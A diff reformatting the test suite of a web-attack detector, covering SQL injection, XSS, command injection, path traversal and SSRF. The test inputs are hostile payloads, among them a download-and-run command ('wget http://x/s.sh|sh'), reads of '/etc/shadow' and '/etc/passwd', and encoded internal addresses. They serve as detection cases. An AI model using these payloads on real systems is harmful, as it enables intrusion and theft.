@@ -3,9 +3,17 @@ import { attackHits, describeAttack, splitQuery, type AttackCategory } from '../
 import { normalise } from '../decode.js';
 import { detectSqli, tokenize } from './sqli.js';
 import { detectXss } from './xss.js';
-import { detectCmdi, detectLog4shell, detectShellshock, detectTraversal, detectUrlAbuse, isInternalHost } from './system.js';
+import {
+  detectCmdi,
+  detectLog4shell,
+  detectShellshock,
+  detectTraversal,
+  detectUrlAbuse,
+  isInternalHost,
+} from './system.js';
 
-const categories = (target: string, headers?: { ua?: string; referer?: string }) => attackHits(target, '', headers).map((h) => h.category);
+const categories = (target: string, headers?: { ua?: string; referer?: string }) =>
+  attackHits(target, '', headers).map((h) => h.category);
 const sqli = (v: string) => detectSqli(normalise(v));
 const xss = (v: string) => detectXss(normalise(v));
 const cmdi = (v: string) => detectCmdi(normalise(v));
@@ -48,8 +56,16 @@ describe('more shapes of real scanner traffic', () => {
 
 describe('SQL injection by tokens', () => {
   it('reads a value in three contexts: bare, after a single quote, after a double quote', () => {
-    expect(tokenize("1' or '1'='1", "'").map((t) => t.type).join('')).toBe('s&sos');
-    expect(tokenize('1 union all select null', '').map((t) => t.type).join('')).toBe('1Ukkk'.replace('kkk', 'kEk'));
+    expect(
+      tokenize("1' or '1'='1", "'")
+        .map((t) => t.type)
+        .join(''),
+    ).toBe('s&sos');
+    expect(
+      tokenize('1 union all select null', '')
+        .map((t) => t.type)
+        .join(''),
+    ).toBe('1Ukkk'.replace('kkk', 'kEk'));
   });
 
   it('finds sqlmap-style payloads of every shape', () => {
@@ -73,7 +89,21 @@ describe('SQL injection by tokens', () => {
   });
 
   it('leaves prose, names, addresses and numbers alone', () => {
-    for (const v of ["o'neil and smith", 'rock and roll', '3 or 4', 'select a size', 'c/ caridad s/n', 'campello, el', "l'hospitalet", 'tom & jerry', '5 in stock', "it's 1-2 days", 'union street 4', 'a-b', 'x=1']) {
+    for (const v of [
+      "o'neil and smith",
+      'rock and roll',
+      '3 or 4',
+      'select a size',
+      'c/ caridad s/n',
+      'campello, el',
+      "l'hospitalet",
+      'tom & jerry',
+      '5 in stock',
+      "it's 1-2 days",
+      'union street 4',
+      'a-b',
+      'x=1',
+    ]) {
       expect(sqli(v), v).toBeUndefined();
     }
   });
@@ -99,32 +129,69 @@ describe('XSS by HTML tokens', () => {
   });
 
   it('leaves comparisons and e-mail addresses alone', () => {
-    for (const v of ['a < b', '3<4', 'jo@importadores.es', 'fish & chips', 'see: notes', 'x=1']) expect(xss(v), v).toBeUndefined();
+    for (const v of ['a < b', '3<4', 'jo@importadores.es', 'fish & chips', 'see: notes', 'x=1'])
+      expect(xss(v), v).toBeUndefined();
   });
 });
 
 describe('command injection', () => {
   it('finds a command after a separator, a quote or a substitution, and code execution calls', () => {
-    for (const v of [';id;', '|id', 'a)|/usr/bin/id;', '`uname`', '$(whoami)', '& ping -n 30 127.0.0.1 &', '"del q73888727&rem ', "'|sleep 7 ", "'sleep\\x0911\\x09", "a(){}system('/bin/echo')", '<!--#exec cmd="/bin/cat /etc/shadow"-->', '/bin/ls -al', 'dir c:/', 'id|', '127.0.0.1;wget http://x/s.sh|sh']) {
+    for (const v of [
+      ';id;',
+      '|id',
+      'a)|/usr/bin/id;',
+      '`uname`',
+      '$(whoami)',
+      '& ping -n 30 127.0.0.1 &',
+      '"del q73888727&rem ',
+      "'|sleep 7 ",
+      "'sleep\\x0911\\x09",
+      "a(){}system('/bin/echo')",
+      '<!--#exec cmd="/bin/cat /etc/shadow"-->',
+      '/bin/ls -al',
+      'dir c:/',
+      'id|',
+      '127.0.0.1;wget http://x/s.sh|sh',
+    ]) {
       expect(cmdi(v), v).toBeDefined();
     }
   });
 
   it('leaves words that are also commands alone', () => {
-    for (const v of ['more info', 'find shoes', 'echo', 'type 2 diabetes', 'cat food', 'rock & roll', 'ls', "o'neil", 'sleep well']) expect(cmdi(v), v).toBeUndefined();
+    for (const v of [
+      'more info',
+      'find shoes',
+      'echo',
+      'type 2 diabetes',
+      'cat food',
+      'rock & roll',
+      'ls',
+      "o'neil",
+      'sleep well',
+    ])
+      expect(cmdi(v), v).toBeUndefined();
   });
 });
 
 describe('path traversal', () => {
   it('finds climbing paths and sensitive files after normalisation', () => {
-    for (const v of ['../../etc/passwd', '..\\..\\boot.ini', 'c:/windows/win.ini', '/0x2e0x2e/0x2e0x2e/etc/hosts', '....//....//web-inf/web.xml', '%c0%ae%c0%ae/%c0%ae%c0%ae/x']) {
+    for (const v of [
+      '../../etc/passwd',
+      '..\\..\\boot.ini',
+      'c:/windows/win.ini',
+      '/0x2e0x2e/0x2e0x2e/etc/hosts',
+      '....//....//web-inf/web.xml',
+      '%c0%ae%c0%ae/%c0%ae%c0%ae/x',
+    ]) {
       expect(detectTraversal(normalise(v), true), v).toBeDefined();
     }
   });
 
   it('reads a malformed absolute path in a parameter as an attempt on the file system', () => {
-    for (const v of ['/////{file}', '/./././x', 'file:/c:/x', `/${'a'.repeat(40)}`]) expect(detectTraversal(normalise(v), true), v).toBeDefined();
-    for (const v of ['/account', '/shop/cart', 'c/ caridad s/n', 'wait... what']) expect(detectTraversal(normalise(v), true), v).toBeUndefined();
+    for (const v of ['/////{file}', '/./././x', 'file:/c:/x', `/${'a'.repeat(40)}`])
+      expect(detectTraversal(normalise(v), true), v).toBeDefined();
+    for (const v of ['/account', '/shop/cart', 'c/ caridad s/n', 'wait... what'])
+      expect(detectTraversal(normalise(v), true), v).toBeUndefined();
   });
 });
 
@@ -148,7 +215,19 @@ describe('shellshock and log4shell', () => {
 
 describe('SSRF and file inclusion', () => {
   it('finds URLs to internal addresses in any notation', () => {
-    for (const h of ['127.0.0.1', '127.1', '2130706433', '0x7f000001', '169.254.169.254', '10.1.2.3', '192.168.0.1', 'localhost', '::1', '0.0.0.0', '172.20.1.1']) {
+    for (const h of [
+      '127.0.0.1',
+      '127.1',
+      '2130706433',
+      '0x7f000001',
+      '169.254.169.254',
+      '10.1.2.3',
+      '192.168.0.1',
+      'localhost',
+      '::1',
+      '0.0.0.0',
+      '172.20.1.1',
+    ]) {
       expect(isInternalHost(h), h).toBe(true);
     }
     for (const h of ['93.184.216.34', 'example.com', '172.32.0.1', '8.8.8.8']) expect(isInternalHost(h), h).toBe(false);
